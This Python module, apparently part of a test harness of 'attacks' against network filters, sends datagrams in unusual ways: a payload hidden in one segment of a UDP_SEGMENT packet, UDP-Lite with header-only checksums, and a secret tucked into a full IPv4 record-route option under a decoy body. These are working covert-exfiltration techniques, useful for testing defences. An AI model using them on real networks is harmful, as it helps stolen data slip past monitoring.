"""Datagrams by sockets of anybody, in unusual ways.

`way`: `segments` (UDP_SEGMENT: one large packet that is cut behind TC), `udplite` (RFC 3828, the
checksum over the header only), `options` (the value in an IPv4 option that anybody may set: a
full record-route list).
"""

from __future__ import annotations

import socket

from attacks.target import Impossible, Target, refused

UDP_SEGMENT, SOL_UDP = 103, 17
UDPLITE, UDPLITE_SEND_CSCOV = 136, 10
FILLER = b"the goods have left the harbour with a delay of some days as the port reported. " * 3
SIZE, COUNT = 200, 40
RECORD_ROUTE, OPTION = 7, 39


def main(target: Target) -> None:
    """Send one.

    Raises:
        Impossible: the kernel lacks the protocol.
    """
    ways = {"segments": segments, "udplite": udplite, "options": options}
    ways[target.args["way"]](target)


def segments(target: Target) -> None:
    """Forty datagrams in one packet, the value in one of the last."""
    parts = [FILLER[:SIZE]] * COUNT
    parts[COUNT - 3] = (target.payload + FILLER)[:SIZE]
    with socket.socket(target.af, socket.SOCK_DGRAM) as out, refused():
        out.setsockopt(SOL_UDP, UDP_SEGMENT, SIZE)
        out.sendto(b"".join(parts), (target.address, target.port))


def udplite(target: Target) -> None:
    """A datagram of which only the header is summed."""
    try:
        out = socket.socket(target.af, socket.SOCK_DGRAM, UDPLITE)
    except OSError as error:
        raise Impossible(f"UDP-Lite: {error.strerror}") from error
    with out, refused():
        out.setsockopt(UDPLITE, UDPLITE_SEND_CSCOV, 8)
        out.sendto(target.payload, (target.address, target.port))


def options(target: Target) -> None:
    """A datagram without a secret, its header with one.

    The list is full (its pointer is behind the end), so that no router writes into it.
    """
    room = OPTION - 3
    value = (b" " + target.secret + b" ")[:room].ljust(room, b"\0")
    option = bytes([RECORD_ROUTE, OPTION, OPTION + 1]) + value
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out, refused():
        out.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, option)
        out.sendto(b"nothing in here", (target.addresses[4], target.port))
